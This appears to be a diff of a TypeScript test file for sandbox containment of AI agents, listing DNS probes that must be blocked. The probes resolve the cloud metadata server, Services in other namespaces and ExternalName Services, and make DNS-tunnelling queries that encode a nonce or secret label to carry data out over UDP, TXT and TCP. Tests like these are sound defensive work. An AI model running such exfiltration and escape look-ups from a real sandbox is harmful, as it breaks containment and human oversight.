@@ -1,45 +1,68 @@
-import { type Attempt, SECRET_LABEL } from "../attempt.ts";
+import type { Attempt } from "../attempt.ts";
 
-const ownDns = (id: string, title: string, name: string): Attempt => ({
+/**
+ * A look-up at the agents' DNS. Two rings hold it: that DNS forwards nothing, and no policy lets its pod ask anybody.
+ */
+const ownDns = (id: string, title: string, python: Attempt["python"]): Attempt => ({
   id,
   title,
   expected: "blocked",
-  rings: ["dns"],
-  python: () => `return str(socket.getaddrinfo("${name}", 443)[0][4])`,
+  rings: ["dns", "policy"],
+  python,
+});
+
+const resolved = (id: string, title: string, name: Attempt["python"]) =>
+  ownDns(id, title, (...given) => `return str(socket.getaddrinfo("${name(...given)}", 443)[0][4])`);
+
+const clusterDns = (id: string, title: string, python: Attempt["python"]): Attempt => ({
+  id,
+  title,
+  expected: "blocked",
+  rings: ["policy"],
+  python,
 });
 
 /** Look-ups: names that must not exist for agents, and look-ups that would carry something out. */
 export const names: readonly Attempt[] = [
-  ownDns("name.unlisted", "an unlisted name", "unlisted.example"),
-  ownDns("name.trailing-dot", "an unlisted name with a trailing dot", "unlisted.example."),
-  ownDns("name.upper-case", "an unlisted name in upper case", "UNLISTED.EXAMPLE"),
-  ownDns("name.metadata", "the metadata server by name", "metadata.google.internal"),
-  ownDns(
+  resolved("name.unlisted", "an unlisted name", () => "unlisted.example"),
+  resolved("name.trailing-dot", "an unlisted name with a trailing dot", () => "unlisted.example."),
+  resolved("name.upper-case", "an unlisted name in upper case", () => "UNLISTED.EXAMPLE"),
+  resolved("name.metadata", "the metadata server by name", () => "metadata.google.internal"),
+  resolved(
     "name.cluster",
-    "a Service of another namespace",
-    "kube-dns.kube-system.svc.cluster.local",
+    "a Service of another namespace by name",
+    ({ visitor }) => `inside.${visitor.namespace}.svc.cluster.local`,
   ),
-  {
-    id: "dns.tunnel-own",
-    title: "a look-up that carries data, at the agents' DNS",
-    expected: "blocked",
-    rings: ["dns"],
-    python: ({ dnsAddress }) =>
-      `return resolve_udp("${dnsAddress}", "${SECRET_LABEL}.unlisted.example")`,
-  },
-  {
-    id: "dns.tunnel-cluster",
-    title: "a look-up that carries data, at the cluster's DNS over UDP",
-    expected: "blocked",
-    rings: ["policy"],
-    python: ({ clusterDns }) =>
-      `udp("${clusterDns}", 53, question("${SECRET_LABEL}.unlisted.example")); return "answered"`,
-  },
-  {
-    id: "dns.tunnel-cluster-tcp",
-    title: "a look-up that carries data, at the cluster's DNS over TCP",
-    expected: "blocked",
-    rings: ["policy"],
-    python: ({ clusterDns }) => `return reached("${clusterDns}", 53)`,
-  },
+  resolved(
+    "name.external",
+    "an ExternalName Service that leads outside",
+    ({ visitor }) => visitor.externalName,
+  ),
+  ownDns(
+    "dns.tunnel-own",
+    "a look-up that carries data, at the agents' DNS",
+    ({ dnsAddress }, nonce) => `return resolve_udp("${dnsAddress}", "${nonce}.unlisted.example")`,
+  ),
+  ownDns(
+    "dns.tunnel-own-txt",
+    "the same for a TXT record",
+    ({ dnsAddress }, nonce) =>
+      `return resolve_udp("${dnsAddress}", "${nonce}.unlisted.example", 16)`,
+  ),
+  clusterDns(
+    "dns.tunnel-cluster",
+    "a look-up that carries data, at the cluster's DNS over UDP",
+    ({ clusterDns }, nonce) =>
+      `udp("${clusterDns}", 53, question("${nonce}.unlisted.example")); return "answered"`,
+  ),
+  clusterDns(
+    "dns.tunnel-cluster-tcp",
+    "the same over TCP",
+    ({ clusterDns }, nonce) => `return resolve_tcp("${clusterDns}", "${nonce}.unlisted.example")`,
+  ),
+  clusterDns(
+    "dns.external-cluster",
+    "the ExternalName Service, at the cluster's DNS",
+    ({ clusterDns, visitor }) => `return resolve_udp("${clusterDns}", "${visitor.externalName}")`,
+  ),
 ];
